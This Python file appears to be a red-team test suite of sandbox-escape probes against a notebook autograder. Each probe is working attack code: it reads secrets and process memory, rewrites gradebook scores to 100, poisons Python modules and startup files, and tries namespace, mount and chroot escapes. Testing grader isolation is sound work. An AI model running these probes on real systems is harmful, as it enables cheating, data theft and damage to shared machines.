# fmt: off

# %% reads the gradebook, the source, the solutions, the checks, other submissions, the grader's home and environment
def attack():
    found = [read(path) for path in target["secrets"] if attempt(os.path.isfile, path) and attempt(read, path)]
    listed = [attempt(os.listdir, folder) for folder in (target["course"], target["checkout"], target["home"])]
    found += [OUT + f"{names} can be listed" for names in listed if names and {"solutions", "source"} & set(names)]
    return all_of([*found, spoils("\n".join(f"{k}={v}" for k, v in os.environ.items()))])

# %% searches the whole disk for notebooks, gradebooks, checks and keys
def attack():
    wanted = ("power_loss", "gradebook", "check_", "netrc", "id_", "nbgrader_config")
    found, seen = [], 0
    for folder, folders, names in os.walk("/"):
        folders[:] = [name for name in folders if name not in ("proc", "sys", "site-packages", "share", "doc")]
        seen += len(names)
        for name in names:
            if name.startswith(wanted) or name.endswith((".ipynb", ".db", ".sqlite")):
                found.append(attempt(read, os.path.join(folder, name)))
        if seen > 100_000:
            break
    return all_of(found)

# %% imports the solutions and the checks
def attack():
    import importlib, inspect

    checks = os.path.join(target["checkout"], "autograder", "checks", "power_loss")
    for folder in (target["checkout"], target["course"], checks):
        sys.path.insert(0, folder)
    own = "check_noisy_val_grad"
    names = ["solutions.power_loss", f"autograder.checks.power_loss.{own}", own, "tests.small_class"]
    modules = [attempt(importlib.import_module, name) for name in names]
    return all_of(spoils(attempt(inspect.getsource, module)) for module in modules if module)

# %% writes to the gradebook
def attack():
    def write():
        with sqlite3.connect(f"file:{target['gradebook']}?mode=rw", uri=True, timeout=1) as gradebook:
            gradebook.execute("UPDATE grade SET manual_score = 100, needs_manual_grade = 0")
        return OUT + "the gradebook was written to"

    return attempt(write)

# %% leaves files wherever it can, and overwrites others' work
def attack():
    folders = [os.path.dirname(path) for path in target["secrets"]] + target["folders"]
    for number, folder in enumerate(dict.fromkeys(folders)):
        name = f"{target['token']}-{os.getpid()}-{number}"
        attempt(Path(folder, name).write_text, "I was here")
        attempt(os.mkdir, os.path.join(folder, f"{name}-folder"))
    for path in [target["canary"], *target["secrets"]]:
        attempt(os.unlink, path)
        attempt(Path(path).write_text, "I was here")
        attempt(os.chmod, path, 0o777)

# %% looks through its own and other processes' open files, roots, memory and environment
def attack():
    found = []
    for process in glob.glob("/proc/[0-9]*"):
        for name in os.listdir(f"{process}/fd") if attempt(os.listdir, f"{process}/fd") else []:
            path = f"{process}/fd/{name}"
            link = attempt(os.readlink, path) or ""
            if link.startswith((target["course"], target["checkout"] + "/source", target["checkout"] + "/solutions")):
                found.append(OUT + f"{link} is open")
            if link.startswith("/") and not link.startswith("/dev"):
                if attempt(os.path.isdir, path) and attempt(os.listdir, f"{path}/../solutions"):
                    found.append(OUT + f"{link} leads out")
                found.append(attempt(read, path) if attempt(os.path.isfile, path) else None)
        found += [attempt(read, f"{process}/{name}") for name in ("environ", "cmdline")]
        found += [attempt(read, f"{process}/{root}{path}") for root in ("root", "cwd") for path in target["secrets"]]
    return all_of(found)

# %% makes namespaces of its own, to mount in
def attack():
    flags = {"user": 0x10000000, "mount": 0x20000, "process": 0x20000000, "network": 0x40000000}
    found = []
    for name, flag in flags.items():
        for more in (0, 0x10000000):
            if os.fork() == 0:
                os._exit(libc.unshare(flag | more) == 0)
            if os.waitstatus_to_exitcode(os.wait()[1]) == 1:
                found.append(OUT + f"it got a {name} namespace of its own")
    stack = ctypes.create_string_buffer(1 << 16)
    function = ctypes.CFUNCTYPE(ctypes.c_int, ctypes.c_void_p)(lambda _: 0)
    top = ctypes.c_void_p(ctypes.addressof(stack) + (1 << 16) - 64)
    if libc.clone(function, top, 0x10000000 | signal.SIGCHLD, None) > 0:
        found.append(OUT + "clone gave it a user namespace")
    arguments = (ctypes.c_uint64 * 8)(0x10000000, 0, 0, 0, signal.SIGCHLD)
    pid = libc.syscall(435, arguments, ctypes.sizeof(arguments))
    if pid == 0:
        os._exit(0)
    if pid > 0:
        found.append(OUT + "clone3 gave it a user namespace")
    command = "unshare --user --map-root-user --mount true 2>/dev/null && echo through"
    if "through" in subprocess.run(["sh", "-c", command], capture_output=True, text=True).stdout:
        found.append(OUT + "unshare gave it a user namespace")
    return all_of(found)

# %% mounts, unmounts, changes its root, joins other namespaces, makes devices
def attack():
    found = []
    if os.getuid() == 0 or os.geteuid() == 0:
        found.append(OUT + "it is root")
    calls = {
        "mount": lambda: libc.mount(b"tmpfs", b"/tmp", b"tmpfs", 0, None),
        "bind": lambda: libc.mount(b"/", b"/tmp", None, 4096 | 16384, None),
        "remount": lambda: libc.mount(None, b"/usr", None, 32 | 4096, None),
        "umount": lambda: libc.umount2(b"/proc", 2),
        "chroot": lambda: libc.chroot(b"/tmp"),
        "pivot_root": lambda: libc.syscall(155, b"/tmp", b"/tmp"),
        "setns": lambda: libc.setns(os.open("/proc/1/ns/mnt", os.O_RDONLY), 0),
        "setuid": lambda: libc.setuid(0),
        "sethostname": lambda: libc.sethostname(b"mine", 4),
        "swapoff": lambda: libc.swapoff(b"/dev/vda"),
        "keyctl": lambda: libc.syscall(250, 0, -3, 1) - 1,
        "bpf": lambda: libc.syscall(321, 0, None, 0),
    }
    for name, call in calls.items():
        if attempt(call) == 0:
            found.append(OUT + f"{name} is allowed")
    attempt(os.mknod, "/tmp/disk", 0o60600, os.makedev(254, 0))
    found.append(attempt(read, "/tmp/disk") and OUT + "it read the disk itself")
    for path in ("/proc/sysrq-trigger", "/proc/sys/kernel/core_pattern", "/sys/kernel/uevent_helper"):
        if attempt(os.open, path, os.O_WRONLY) is not None:
            found.append(OUT + f"{path} can be written to")
    return all_of(found)

# %% changes the system's programs and packages, for whoever comes next
def attack():
    places = [np.__file__, os.__file__, "/usr/bin/env", "/etc/passwd", sys.executable]
    places += [os.path.join(os.path.dirname(np.__file__), "sitecustomize.py"), "/etc/ld.so.preload"]
    found = []
    for path in places:
        def write():
            before = Path(path).read_bytes() if os.path.exists(path) else b""
            Path(path).write_bytes(before)
            return OUT + f"{path} can be changed"
        if not path.startswith("/etc"):  # the box's own
            found.append(attempt(write))
    return all_of(found)

# %% puts links in the place of its notebook and its files
def attack():
    for name in ("power_loss.ipynb", "result.png", f"{target['token']}.txt"):
        for path in (target["gradebook"], target["canary"]):
            attempt(os.unlink, name)
            attempt(os.symlink, path, name)
    attempt(os.link, target["gradebook"], "gradebook.db")
    attempt(os.rename, ".", "../elsewhere")
    for path in Path.cwd().iterdir():
        attempt(path.write_text, "I was here")

# %% poisons the modules that come next
def attack():
    poison = f"open({target['canary']!r}, 'w').write('poisoned')\nraise SystemExit('poisoned')\n"
    for folder in ("", os.getcwd(), "/tmp", "/home/student", os.path.expanduser("~/.local/lib/python3.11/site-packages")):
        attempt(os.makedirs, folder, exist_ok=True)
        for name in ("torch.py", "numpy.py", "sitecustomize.py", "usercustomize.py", "json.py", "autograder.py"):
            attempt(Path(folder, name).write_text, poison)
    os.environ.update(PYTHONPATH=os.getcwd(), PYTHONSTARTUP="torch.py", LD_PRELOAD="/tmp/poison.so")

# %% writes to IPython's and matplotlib's start-up files
def attack():
    poison = f"open({target['canary']!r}, 'w').write('poisoned')\n"
    for folder in ("~/.ipython/profile_default/startup", "~/.config/matplotlib", "~/.jupyter", "/etc/ipython"):
        attempt(os.makedirs, os.path.expanduser(folder), exist_ok=True)
        for name in ("00-first.py", "matplotlibrc", "jupyter_config.py", "ipython_config.py"):
            attempt(Path(os.path.expanduser(folder), name).write_text, poison)

# %% changes the interpreter that it runs in, by the ways that the kernel keeps open
def attack():
    held = attempt(os.open, "/proc/self/exe", os.O_PATH)
    exes = ["/proc/self/exe", "/proc/1/exe", f"/proc/self/fd/{held}", *glob.glob("/proc/[0-9]*/exe")]
    mapped = [*glob.glob("/proc/self/map_files/*"), *glob.glob("/lib*/ld-*.so*")]
    real = os.path.realpath(sys.executable)
    roots = [f"/proc/{process}/{way}{real}" for process in ("self", "1") for way in ("root", "cwd/../../..")]
    found = []
    for path in filter(os.path.exists, [*exes, *mapped, *roots]):
        changes = {"opened": lambda: os.open(path, os.O_RDWR | os.O_APPEND), "chmodded": lambda: os.chmod(path, 0o4777)}
        changes |= {"touched": lambda: os.utime(path, (1, 1)), "marked": lambda: os.setxattr(path, "user.mark", b"x")}
        changes |= {"owned": lambda: os.chown(path, os.getuid(), os.getgid()), "cut": lambda: os.truncate(path, 1)}
        for name, change in changes.items():
            if attempt(lambda: (change(), True)):
                found.append(OUT + f"{path} is {name}")
    return all_of(found)

# %% changes the interpreter once another program has taken its place
def attack():
    script = "for p in 1 $PPID; do exec 3</proc/$p/exe; (echo x >&3; chmod 777 /proc/self/fd/3 && echo through; "
    script += "echo x >>/proc/self/fd/3 && echo through; touch /proc/self/fd/3 && echo through); done 2>/dev/null"
    told = subprocess.run(["sh", "-c", script], capture_output=True, text=True).stdout
    return OUT + "the interpreter is changed" if "through" in told else None

# %% replaces packages and settings in the environment that it runs in
def attack():
    found = []
    folders = [sys.prefix, sys.base_prefix, os.path.dirname(os.__file__), os.path.dirname(os.path.dirname(np.__file__))]
    for folder in folders:
        for name in ("sitecustomize.py", "evil.pth", "pyvenv.cfg"):
            attempt(Path(folder, name).write_text, "import os\n") and found.append(OUT + f"{folder}/{name} is written")
        if attempt(lambda: (os.rename(folder, folder + "-old"), True)) or attempt(lambda: (os.chmod(folder, 0o777), True)):
            found.append(OUT + f"{folder} is changed")
        if attempt(lambda: (os.symlink("/tmp", folder + "/linked"), True)):
            found.append(OUT + f"{folder} has a link")
    return all_of(found)

# %% makes whoever opens a file of the system wait, by leases and notices
def attack():
    import fcntl

    found = []
    for path in (np.__file__, os.__file__, sys.executable, "/usr/bin/env"):
        file = attempt(open, path, "rb")
        for command, value in ((fcntl.F_SETLEASE, fcntl.F_WRLCK), (fcntl.F_SETLEASE, fcntl.F_RDLCK)):
            if file and attempt(lambda: (fcntl.fcntl(file, command, value), True)):
                found.append(OUT + f"it has a lease of {path}")
        folder = attempt(os.open, os.path.dirname(path), os.O_RDONLY)
        if folder and attempt(lambda: (fcntl.fcntl(folder, fcntl.F_NOTIFY, fcntl.DN_MODIFY | fcntl.DN_ACCESS), True)):
            found.append(OUT + f"it hears who uses {os.path.dirname(path)}")
    return all_of(found)

# %% changes devices that everybody uses
def attack():
    found = []
    for path in ("/dev/null", "/dev/zero", "/dev/urandom", "/proc/self/fd/0", "/proc/self/fd/1"):
        if not attempt(os.path.exists, path) or (attempt(os.readlink, path) or "/dev").startswith(("pipe", "socket")):
            continue
        for name, change in {"chmodded": lambda: os.chmod(path, 0o000), "touched": lambda: os.utime(path)}.items():
            if attempt(lambda: (change(), True)):
                found.append(OUT + f"{path} is {name}")
    return all_of(found)
